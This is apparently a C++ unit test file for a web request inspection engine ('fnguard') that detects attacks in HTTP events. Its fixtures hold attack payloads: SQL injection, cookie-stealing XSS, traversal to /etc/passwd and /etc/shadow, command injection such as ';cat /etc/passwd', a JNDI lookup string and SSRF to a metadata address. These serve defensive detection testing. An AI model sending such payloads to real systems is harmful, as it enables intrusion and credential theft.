#include "runtime/engine/engine.h"

#include <re2/re2.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "policy/policy.h"
#include "runtime/event/text_codecs.h"
#include "runtime/report/gzip.h"
#include "tests/support/brotli_compress.h"
#include "tests/support/zstd_compress.h"

namespace fnguard::engine {
namespace {

using ::testing::ElementsAre;

// A policy with no built-in detectors and one custom rule, so these tests
// exercise the engine's own logic (fields, exclusions, rules, decisions).
std::shared_ptr<policy::Policy> RulePolicy() {
  auto p = std::make_shared<policy::Policy>();
  p->detectors = DetectorSet();
  policy::CustomRule rule;
  rule.id = "evil";
  rule.reason = "contains the word evil";
  rule.re = std::make_shared<re2::RE2>("(?i)evil");
  p->rules.push_back(rule);
  return p;
}

// `p` with a time budget that never runs out: the tests below are about what
// is found, and a loaded machine can deschedule a test for longer than the
// default budget.
template <typename PolicyPtr>
std::shared_ptr<policy::Policy> Unlimited(PolicyPtr p) {
  auto copy = std::make_shared<policy::Policy>(*p);
  copy->limits.time_budget_us = 60'000'000;
  return copy;
}

constexpr std::string_view kEvent =
    R"({"version":"2.0","rawPath":"/x","rawQueryString":"q=EVIL","headers":{"accept":"*/*"},)"
    R"("queryStringParameters":{"q":"EVIL"},"requestContext":{"http":{"method":"GET"}},"isBase64Encoded":false})";

TEST(InspectorTest, CustomRuleBlocksInBlockMode) {
  Inspector ins(RulePolicy());
  Verdict v = ins.Inspect(kEvent);
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.action, Action::kBlock);
  EXPECT_EQ(v.detector, "custom");
  EXPECT_EQ(v.rule_id, "custom.evil");
  EXPECT_EQ(v.reason, "contains the word evil");
  EXPECT_EQ(v.excerpt, "EVIL");
}

TEST(InspectorTest, MonitorModeReportsButDoesNotBlock) {
  auto p = RulePolicy();
  p->mode = policy::Mode::kMonitor;
  Inspector ins(p);
  Verdict v = ins.Inspect(kEvent);
  EXPECT_EQ(v.action, Action::kMonitor);
  EXPECT_FALSE(v.findings.empty());
}

TEST(InspectorTest, RulePathsRestrictWhereARuleApplies) {
  auto p = RulePolicy();
  p->rules[0].paths = {"headers.*"};
  Inspector ins(p);
  EXPECT_EQ(ins.Inspect(kEvent).action, Action::kAllow);
}

TEST(InspectorTest, CleanEventIsAllowed) {
  Inspector ins(RulePolicy());
  Verdict v = ins.Inspect(R"({"hello":"world"})");
  EXPECT_EQ(v.action, Action::kAllow);
  EXPECT_TRUE(v.findings.empty());
  EXPECT_FALSE(v.timed_out);
}

TEST(InspectorTest, MalformedEventIsAFindingAndReportsTheDecodeError) {
  Inspector ins(RulePolicy());
  absl::Status st;
  Verdict v = ins.Inspect(R"({"a": "unterminated)", &st);
  EXPECT_FALSE(st.ok());
  ASSERT_EQ(v.findings.size(), 1u);
  EXPECT_EQ(v.findings[0].rule_id, "event.malformed");
  EXPECT_EQ(v.action, Action::kBlock);
}

TEST(InspectorTest, InspectValueUsesTheGivenPath) {
  Inspector ins(RulePolicy());
  Verdict v = ins.InspectValue("pure evil", event::Location::kQuery, "query.q");
  ASSERT_EQ(v.action, Action::kBlock);
  EXPECT_EQ(v.field_path, "query.q");
}

TEST(InspectorTest, FindingsAreCapped) {
  // The cap, not the budget, must stop inspection.
  Inspector ins(Unlimited(RulePolicy()));
  std::string ev = "{";
  for (int i = 0; i < 100; ++i) ev += "\"k" + std::to_string(i) + "\":\"evil\",";
  ev += "\"end\":1}";
  Verdict v = ins.Inspect(ev);
  EXPECT_FALSE(v.timed_out);
  EXPECT_EQ(v.findings.size(), kMaxFindings);
}

TEST(InspectorTest, TimeBudgetMarksTimedOutAndOnTimeoutClosedBlocks) {
  auto p = RulePolicy();
  p->rules[0].re = std::make_shared<re2::RE2>("(?i)(a+)+b[^x]*zzz");  // never matches below
  p->limits.time_budget_us = 1;
  p->on_timeout = policy::FailMode::kClosed;
  Inspector ins(p);
  std::string ev = "{";
  for (int i = 0; i < 2000; ++i) ev += "\"k" + std::to_string(i) + "\":\"" + std::string(200, 'a') + "\",";
  ev += "\"end\":1}";
  Verdict v = ins.Inspect(ev);
  EXPECT_TRUE(v.timed_out);
  EXPECT_EQ(v.action, Action::kBlock);
  EXPECT_EQ(v.rule_id, "limits.time_budget");

  p->on_timeout = policy::FailMode::kOpen;
  Inspector open(p);
  Verdict v2 = open.Inspect(ev);
  EXPECT_TRUE(v2.timed_out);
  EXPECT_EQ(v2.action, Action::kAllow);
}

// With a budget that never runs out, `ev` gives one finding, of sqli.
void ExpectOneSqliFindingWithTimeToSpare(std::shared_ptr<policy::Policy> p, const std::string& ev) {
  p->limits.time_budget_us = 60'000'000;
  Inspector patient(p);
  Verdict all = patient.Inspect(ev);
  EXPECT_FALSE(all.timed_out);
  ASSERT_EQ(all.findings.size(), 1u);
  EXPECT_EQ(all.findings[0].detector, "sqli");
}

// Long values read the clock sooner than every 16 fields: the budget stops
// inspection after the first long value, before the attack in the third
// field is reached.
TEST(InspectorTest, TimeBudgetIsCheckedAfterLongValues) {
  auto p = std::make_shared<policy::Policy>(*policy::DefaultPolicy());
  p->limits.time_budget_us = 1;
  p->on_timeout = policy::FailMode::kOpen;
  const std::string lines(100 * 1024, 'a');
  const std::string ev = R"({"a":")" + lines + R"(","b":")" + lines +
                         R"(","c":"1' union select password from users--"})";
  Inspector ins(p);
  Verdict v = ins.Inspect(ev);
  EXPECT_TRUE(v.timed_out);
  EXPECT_TRUE(v.findings.empty());

  ExpectOneSqliFindingWithTimeToSpare(p, ev);
}

// One long value is timed between its passes: a budget that has run out
// stops it before the detectors that remain, and the verdict says so. A
// bare value (fnguard eval) is inspected whole.
TEST(InspectorTest, TimeBudgetIsCheckedBetweenThePassesOverOneLongValue) {
  auto p = std::make_shared<policy::Policy>(*policy::DefaultPolicy());
  p->limits.time_budget_us = 1;
  p->on_timeout = policy::FailMode::kOpen;
  const std::string value = std::string(100 * 1024, 'a') + " 1' union select password from users--";
  const std::string ev = R"({"a":")" + value + R"("})";
  Inspector ins(p);
  Verdict v = ins.Inspect(ev);
  EXPECT_TRUE(v.timed_out);
  EXPECT_TRUE(v.findings.empty());
  Verdict bare = ins.InspectValue(value, event::Location::kBody, "body.a");
  EXPECT_FALSE(bare.timed_out);
  ASSERT_EQ(bare.findings.size(), 1u);
  EXPECT_EQ(bare.findings[0].detector, "sqli");

  ExpectOneSqliFindingWithTimeToSpare(p, ev);
}

// The engine hands a value to the detectors as its own normal form when it
// has nothing to decode, and normalizes it otherwise: both reach the
// detectors, with the excerpt taken from the normalized value.
TEST(InspectorTest, PlainAndEncodedValuesBothReachTheDetectors) {
  Inspector ins(policy::DefaultPolicy());
  Verdict plain = ins.InspectValue("1 union select password from users", event::Location::kQuery,
                                   "query.q");
  ASSERT_FALSE(plain.findings.empty());
  EXPECT_EQ(plain.findings.front().detector, "sqli");
  Verdict encoded = ins.InspectValue("1%20union%20select%20password%20from%20users",
                                     event::Location::kQuery, "query.q");
  ASSERT_FALSE(encoded.findings.empty());
  EXPECT_EQ(encoded.findings.front().detector, "sqli");
  EXPECT_NE(encoded.findings.front().excerpt.find("union select"), std::string::npos)
      << encoded.findings.front().excerpt;
  Verdict entity = ins.InspectValue("&lt;script&gt;alert(1)&lt;/script&gt;",
                                    event::Location::kBody, "body.note");
  ASSERT_FALSE(entity.findings.empty());
  EXPECT_EQ(entity.findings.front().detector, "xss");
  Verdict clean = ins.InspectValue("Siobhán O'Brien, 12 Grafton St. (2nd floor) - 100% sure",
                                   event::Location::kBody, "body.note");
  EXPECT_TRUE(clean.findings.empty()) << clean.findings.front().rule_id;
}

// A body sent compressed (Content-Encoding) is inspected as the application
// reads it once decompressed; one compressed in a way fnguard cannot undo
// is a limits finding, so it is never a silent pass.
TEST(InspectorTest, CompressedBodiesAreInspectedDecompressed) {
  Inspector ins(Unlimited(policy::DefaultPolicy()));
  const auto event = [](std::string_view coding, std::string_view body) {
    const std::string b64 = event::Base64Encode(body);
    return std::string(R"({"version":"2.0","rawPath":"/x","headers":{"content-type":)"
                       R"("application/json","content-encoding":")") +
           std::string(coding) +
           R"("},"requestContext":{"http":{"method":"POST"}},"isBase64Encoded":true,"body":")" +
           b64 + R"("})";
  };
  const std::string attack = R"({"note":"<script>alert(document.cookie)</script>"})";
  Verdict v = ins.Inspect(event("gzip", report::GzipCompress(attack)));
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings.front().detector, "xss");
  EXPECT_EQ(v.findings.front().field_path, "body.note");
  EXPECT_EQ(v.action, Action::kBlock);

  v = ins.Inspect(event("gzip", report::GzipCompress(R"({"note":"gift wrap, please"})")));
  EXPECT_TRUE(v.findings.empty()) << v.findings.front().rule_id;
  EXPECT_EQ(v.action, Action::kAllow);

  v = ins.Inspect(event("br", test_support::BrotliCompress(attack)));
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings.front().detector, "xss");
  EXPECT_EQ(v.findings.front().field_path, "body.note");

  // A Zstandard body, as OpenAI's Codex clients send large requests.
  v = ins.Inspect(event("zstd", test_support::ZstdCompress(attack)));
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings.front().detector, "xss");
  EXPECT_EQ(v.findings.front().field_path, "body.note");
  v = ins.Inspect(event("zstd", test_support::ZstdCompress(R"({"note":"gift wrap, please"})")));
  EXPECT_TRUE(v.findings.empty()) << v.findings.front().rule_id;

  v = ins.Inspect(event("compress", "\x1f\x9d\x90{}"));
  ASSERT_EQ(v.findings.size(), 1u);
  EXPECT_EQ(v.findings.front().rule_id, "limits.content_encoding");
  EXPECT_EQ(v.action, Action::kBlock);

  // Two Content-Encoding lines, "identity" then "gzip" (REST v1 keeps the
  // last in `headers`): read as the application that decompresses reads it.
  const auto repeated = [](std::string_view body) {
    return R"({"httpMethod":"POST","path":"/","resource":"/","isBase64Encoded":true,)"
           R"("headers":{"Content-Type":"application/json","Content-Encoding":"gzip"},)"
           R"("multiValueHeaders":{"Content-Type":["application/json"],)"
           R"("Content-Encoding":["identity","gzip"]},"body":")" +
           event::Base64Encode(body) + R"("})";
  };
  v = ins.Inspect(repeated(report::GzipCompress(attack)));
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings.front().field_path, "body.note");
  EXPECT_EQ(v.action, Action::kBlock);
  v = ins.Inspect(repeated(report::GzipCompress(R"({"note":"gift wrap, please"})")));
  EXPECT_EQ(v.action, Action::kAllow);
}

// Inspecting a clean event after an attack (and back) gives the same
// verdicts: nothing of one inspection leaks into the next.
TEST(InspectorTest, RepeatedInspectionsAreIndependent) {
  Inspector ins(policy::DefaultPolicy());
  const std::string attack =
      R"({"version":"2.0","rawPath":"/x","rawQueryString":"q=1","headers":{"x-a":"../../etc/passwd"},)"
      R"("queryStringParameters":{"q":"1' or '1'='1"},"requestContext":{"http":{"method":"GET"}}})";
  const std::string clean =
      R"({"version":"2.0","rawPath":"/orders","rawQueryString":"page=2","headers":{"accept":"*/*"},)"
      R"("queryStringParameters":{"page":"2"},"requestContext":{"http":{"method":"GET"}}})";
  for (int round = 0; round < 3; ++round) {
    Verdict a = ins.Inspect(attack);
    ASSERT_EQ(a.findings.size(), 2u) << round;
    EXPECT_EQ(a.findings[0].field_path, "query.q");
    EXPECT_EQ(a.findings[1].field_path, "headers.x-a");
    Verdict c = ins.Inspect(clean);
    EXPECT_TRUE(c.findings.empty()) << round;
  }
}

// Fields that came out clean are remembered (clean_cache.h); a field that
// differs in one byte, in its path or in where it sits is inspected again.
TEST(InspectorTest, RememberedCleanFieldsDoNotHideAttacks) {
  Inspector ins(Unlimited(policy::DefaultPolicy()));
  const auto event = [](const std::string& ua, const std::string& where, const std::string& q) {
    return R"({"version":"2.0","rawPath":"/orders","headers":{"accept":"*/*","user-agent":")" + ua +
           R"("},"queryStringParameters":{")" + where + R"(":")" + q +
           R"("},"requestContext":{"http":{"method":"GET"}},"isBase64Encoded":false})";
  };
  const std::string clean = event("curl/8.4.0", "page", "2");
  for (int round = 0; round < 4; ++round) {
    EXPECT_TRUE(ins.Inspect(clean).findings.empty()) << round;
  }
  // The same header value with a payload appended, the same query value at a
  // path named for fetching, and the remembered value as a new attack field.
  Verdict ua = ins.Inspect(event("curl/8.4.0${jndi:ldap://x.example/a}", "page", "2"));
  ASSERT_FALSE(ua.findings.empty());
  EXPECT_EQ(ua.field_path, "headers.user-agent");
  EXPECT_EQ(ua.detector, "jndi");
  Verdict q = ins.Inspect(event("curl/8.4.0", "page", "2' union select password from users--"));
  ASSERT_FALSE(q.findings.empty());
  EXPECT_EQ(q.detector, "sqli");
  EXPECT_EQ(q.field_path, "query.page");
  EXPECT_TRUE(ins.Inspect(clean).findings.empty());
  // An address is data in a field not named for fetching; remembered there,
  // it is still a finding under a name that is.
  for (int round = 0; round < 3; ++round) {
    EXPECT_TRUE(ins.Inspect(event("curl/8.4.0", "page", "127.0.0.1")).findings.empty()) << round;
  }
  Verdict url = ins.Inspect(event("curl/8.4.0", "url", "127.0.0.1"));
  ASSERT_FALSE(url.findings.empty());
  EXPECT_EQ(url.detector, "ssrf");
  EXPECT_EQ(url.field_path, "query.url");
}

// A query or form name is the sender's text as much as a value is: code that
// reads the raw query or body gets it whole. A JSON object key is judged as a
// key (operators, prototype keys), not as a value.
TEST(InspectorTest, ParameterNamesAreJudgedLikeValues) {
  Inspector ins(Unlimited(policy::DefaultPolicy()));
  const auto request = [](const std::string& raw_query, const std::string& content_type,
                          const std::string& escaped_body) {
    return R"({"version":"2.0","rawPath":"/cgi-bin/report","rawQueryString":")" + raw_query +
           R"(","headers":{"content-type":")" + content_type +
           R"("},"requestContext":{"http":{"method":"POST"}},"body":")" + escaped_body +
           R"(","isBase64Encoded":false})";
  };
  const std::string form = "application/x-www-form-urlencoded";
  Verdict query = ins.Inspect(request(";cat%20/etc/passwd", form, ""));
  ASSERT_FALSE(query.findings.empty());
  EXPECT_EQ(query.detector, "cmdi");
  EXPECT_EQ(query.field_path, "query.;cat /etc/passwd");
  Verdict traversal = ins.Inspect(request("..%2F..%2F..%2Fetc%2Fshadow", form, ""));
  ASSERT_FALSE(traversal.findings.empty());
  EXPECT_EQ(traversal.detector, "path_traversal");
  EXPECT_EQ(traversal.field_path, "query[\"../../../etc/shadow\"]");
  Verdict template_name = ins.Inspect(request("", form, "%7B%7B7*7%7D%7D&x=1"));
  ASSERT_FALSE(template_name.findings.empty());
  EXPECT_EQ(template_name.detector, "ssti");
  // The same text as a JSON key, remembered clean over a few rounds, does not
  // hide the form name at the same path.
  for (int round = 0; round < 3; ++round) {
    Verdict key = ins.Inspect(request("", "application/json", R"({\"|id\":1})"));
    for (const Finding& f : key.findings) EXPECT_NE(f.detector, "cmdi") << round;
  }
  Verdict name = ins.Inspect(request("", form, "|id"));
  ASSERT_FALSE(name.findings.empty());
  EXPECT_EQ(name.detector, "cmdi");
  EXPECT_EQ(name.field_path, "body.|id");
  // Plain names are not fields at all.
  EXPECT_TRUE(ins.Inspect(request("page=2&sort=name", form, "user=ada&note=hello")).findings.empty());
}

// With and without remembering clean fields, the same events give the same
// findings, also when each comes many times.
TEST(InspectorTest, RememberingCleanFieldsChangesNoFinding) {
  Inspector cached(Unlimited(policy::DefaultPolicy()));
  Inspector uncached(Unlimited(policy::DefaultPolicy()));
  uncached.set_remember_clean_fields(false);
  const std::vector<std::string> values = {
      "2", "O'Brien", "1 or 1=1", "<b>hi</b>", "<script>alert(1)</script>", "../../etc/passwd",
      "a;id", "http://169.254.169.254/", "{{7*7}}", "gift wrap, please!"};
  for (int round = 0; round < 3; ++round) {
    for (const std::string& v : values) {
      const std::string ev = R"({"version":"2.0","rawPath":"/x","headers":{"x-note":")" + v +
                             R"("},"queryStringParameters":{"q":")" + v +
                             R"("},"body":"{\"note\":\")" + v +
                             R"(\"}","requestContext":{"http":{"method":"POST"}},)" +
                             R"("isBase64Encoded":false})";
      Verdict a = cached.Inspect(ev);
      Verdict b = uncached.Inspect(ev);
      ASSERT_EQ(a.findings.size(), b.findings.size()) << v;
      for (size_t i = 0; i < a.findings.size(); ++i) {
        EXPECT_EQ(a.findings[i].rule_id, b.findings[i].rule_id) << v;
        EXPECT_EQ(a.findings[i].field_path, b.findings[i].field_path) << v;
      }
      EXPECT_EQ(a.action, b.action) << v;
    }
  }
}

// A body of many records: the fields past the ones the cache looks up are
// looked up among the event's own earlier clean fields. The findings are
// those of an Inspector that remembers nothing, wherever an attack sits.
std::string RecordsEvent(size_t records, const std::vector<std::pair<size_t, std::string>>& notes) {
  std::string body = R"({\"records\":[)";
  for (size_t i = 0; i < records; ++i) {
    if (i > 0) body += ",";
    std::string note = i % 3 == 0 ? "gift wrap, please!" : "O'Brien";
    for (const auto& [at, text] : notes) {
      if (at == i) note = text;
    }
    body += R"({\"id\":\"ORD-)" + std::to_string(100000 + i) + R"(\",\"status\":\"paid\",)" +
            R"(\"note\":\")" + note + R"(\"})";
  }
  body += "]}";
  return R"({"version":"2.0","rawPath":"/import","headers":{"content-type":"application/json"},)"
         R"("body":")" + body + R"(","requestContext":{"http":{"method":"POST"}},)"
         R"("isBase64Encoded":false})";
}

std::shared_ptr<policy::Policy> LargeBodyPolicy() {
  auto p = Unlimited(policy::DefaultPolicy());
  p->limits.event.max_fields = 100000;
  return p;
}

TEST(InspectorTest, RepeatedFieldsOfALargeBodyHideNoAttack) {
  Inspector cached(LargeBodyPolicy());
  Inspector uncached(LargeBodyPolicy());
  uncached.set_remember_clean_fields(false);
  // Attacks late in the body among repeated clean values, and the same
  // attack twice.
  const std::string event = RecordsEvent(
      1500, {{1200, "1' or '1'='1"}, {1300, "<script>alert(1)</script>"}, {1301, "1' or '1'='1"}});
  Verdict a = cached.Inspect(event);
  Verdict b = uncached.Inspect(event);
  ASSERT_EQ(a.findings.size(), b.findings.size());
  ASSERT_EQ(a.findings.size(), 3u);
  for (size_t i = 0; i < a.findings.size(); ++i) {
    EXPECT_EQ(a.findings[i].rule_id, b.findings[i].rule_id);
    EXPECT_EQ(a.findings[i].field_path, b.findings[i].field_path);
  }
  EXPECT_EQ(a.findings[0].field_path, "body.records[1200].note");
  EXPECT_EQ(a.findings[2].field_path, "body.records[1301].note");
  EXPECT_TRUE(cached.Inspect(RecordsEvent(1500, {})).findings.empty());
}

// An exclusion that names one record leaves the next record's same value to
// the detectors: a field clean only by the exclusion must not stand for it.
TEST(InspectorTest, AnExclusionNamingAnIndexIsHonouredInLargeBodies) {
  auto p = LargeBodyPolicy();
  policy::Exclusion ex;
  ex.path = "body.records[1100].note";
  ex.detectors = DetectorSet::All();
  p->exclusions.push_back(ex);
  Inspector ins(p);
  Verdict v = ins.Inspect(RecordsEvent(1200, {{1100, "1' or '1'='1"}, {1101, "1' or '1'='1"}}));
  ASSERT_EQ(v.findings.size(), 1u);
  EXPECT_EQ(v.findings[0].field_path, "body.records[1101].note");
}

// An event whose body is `xml` (escaped for a JSON string) sent as `type`.
std::string XmlEvent(std::string_view xml, std::string_view type = "application/xml") {
  return std::string(R"({"version":"2.0","rawPath":"/x","headers":{"content-type":")") +
         std::string(type) + R"("},"requestContext":{"http":{"method":"POST"}},"body":")" +
         std::string(xml) + R"("})";
}

// "detector@path" of each finding.
std::vector<std::string> Where(const Verdict& v) {
  std::vector<std::string> out;
  for (const Finding& f : v.findings) out.push_back(f.detector + "@" + f.field_path);
  return out;
}

// An XML body's attack is reported at the node that holds it (an attribute
// value also in its start tag); an exclusion names an element's path; a
// custom rule still reads the whole document.
TEST(InspectorTest, XmlBodiesAreInspectedNodeByNode) {
  auto p = std::make_shared<policy::Policy>(*Unlimited(policy::DefaultPolicy()));
  Inspector ins(p);
  const std::string order =
      R"(<?xml version=\"1.0\"?><order><note>Leave it at the door</note>)"
      R"(<item sku=\"1' or '1'='1\">Mug</item>)"
      R"(<comment>&lt;script&gt;go()&lt;/script&gt;</comment></order>)";
  Verdict v = ins.Inspect(XmlEvent(order));
  EXPECT_THAT(Where(v), ElementsAre("sqli@body.order.item", "sqli@body.order.item.@sku",
                                    "xss@body.order.comment"));

  policy::Exclusion ex;
  ex.path = "body.order.comment";
  ex.detectors.Add(DetectorId::kXss);
  p->exclusions.push_back(ex);
  policy::CustomRule rule;
  rule.id = "door-mug";
  rule.re = std::make_shared<re2::RE2>("door</note><item");
  p->rules.push_back(rule);
  Inspector excluded(p);
  v = excluded.Inspect(XmlEvent(order));
  EXPECT_THAT(Where(v), ElementsAre("custom@body", "sqli@body.order.item",
                                    "sqli@body.order.item.@sku"));
}

// The whole XML document is seen by custom rules only: it must not be
// remembered as clean for the same text read as text (a JSON-labelled body
// that does not parse).
TEST(InspectorTest, AnXmlDocumentIsNotRememberedAsCleanText) {
  Inspector ins(Unlimited(policy::DefaultPolicy()));
  const std::string doc = R"(<a><b>x</b><c>1' or '1'='1</c></a>)";
  for (int round = 0; round < 2; ++round) {
    EXPECT_THAT(Where(ins.Inspect(XmlEvent(doc))), ElementsAre("sqli@body.a.c"));
    EXPECT_THAT(Where(ins.Inspect(XmlEvent(doc, "application/json"))), ElementsAre("sqli@body"));
  }
}

TEST(ExcerptTest, EscapesControlBytesAndTruncates) {
  EXPECT_EQ(MakeExcerpt("a\nb", 0, 3), "a\\x0ab");
  std::string big(500, 'x');
  std::string e = MakeExcerpt(big, 200, 5, 40);
  EXPECT_LE(e.size(), 40u + 6u);
  EXPECT_EQ(e.substr(0, 3), "...");
}

TEST(ExcerptTest, RedactsSecrets) {
  std::string e = MakeExcerpt("key=AKIAIOSFODNN7EXAMPLE and more", 0, 10);
  EXPECT_EQ(e.find("AKIAIOSFODNN7EXAMPLE"), std::string::npos);
  EXPECT_NE(e.find("[REDACTED]"), std::string::npos);
}

}  // namespace
}  // namespace fnguard::engine
